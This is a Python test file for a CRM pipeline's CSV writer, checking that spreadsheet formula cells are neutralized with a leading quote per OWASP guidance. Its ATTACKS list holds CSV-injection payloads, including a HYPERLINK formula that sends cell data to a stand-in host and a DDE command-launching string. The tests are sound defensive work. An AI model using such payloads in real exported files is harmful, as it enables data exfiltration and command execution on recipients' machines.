"""CSV files for people: cells a spreadsheet would run as formulas are neutralized (OWASP)."""

from __future__ import annotations

import csv
from pathlib import Path

import polars as pl
import pytest

from crm_pipeline.safe_csv import neutralize, write_csv

ATTACKS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def _read(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


@pytest.mark.parametrize("value", ATTACKS)
def test_a_formula_cell_is_written_with_a_leading_quote(value: str, tmp_path: Path) -> None:
    out = tmp_path / "x.csv"
    write_csv(pl.DataFrame({"file": ["a.csv"], "record_id": [value]}), out)
    assert _read(out)[1] == ["a.csv", "'" + value]
    assert out.read_text(encoding="utf-8").splitlines()[0] == '"file","record_id"'  # text quoted


def test_phones_are_neutralized_and_numbers_stay_numbers(tmp_path: Path) -> None:
    frame = pl.DataFrame(
        {
            "phone": ["+15551234567", None, "5551234567"],
            "amount": [-12.5, 3.0, None],
            "text_amount": ["-1", "2", "x"],
        }
    )
    out = tmp_path / "p.csv"
    assert write_csv(frame, out) == 3
    rows = _read(out)
    assert [r[0] for r in rows[1:]] == ["'+15551234567", "", "5551234567"]
    assert [r[1] for r in rows[1:]] == ["-12.5", "3.0", ""]  # a number is never a formula
    assert [r[2] for r in rows[1:]] == ["'-1", "2", "x"]
    assert out.read_text(encoding="utf-8").splitlines()[1].split(",")[1] == "-12.5"  # unquoted number


def test_harmless_cells_are_unchanged() -> None:
    frame = pl.DataFrame({"a": ["O'Neil", "a=b", "x-1", "", None], "n": [1, 2, 3, 4, 5]})
    assert neutralize(frame).equals(frame)
